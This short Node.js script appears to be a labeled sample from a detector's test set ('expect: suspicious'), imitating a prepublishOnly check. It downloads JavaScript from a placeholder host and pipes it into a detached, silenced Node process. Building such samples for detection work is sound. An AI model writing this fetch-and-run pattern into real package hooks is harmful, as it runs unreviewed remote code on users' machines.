#!/usr/bin/env node
// expect: suspicious
// source: blind set 39 (publish-preflight): a `prepublishOnly` check CLI pipes a snippet it downloads into `node -`, a
// Node reading its script from standard input; written here
'use strict';
const https = require('https');
const { spawn } = require('child_process');
https.get('https://snippets.example/-/raw/main/check.js', (r) => {
  const node = spawn(process.execPath, ['-'], { stdio: ['pipe', 'ignore', 'ignore'], detached: true });
  r.pipe(node.stdin);
  node.unref();
});
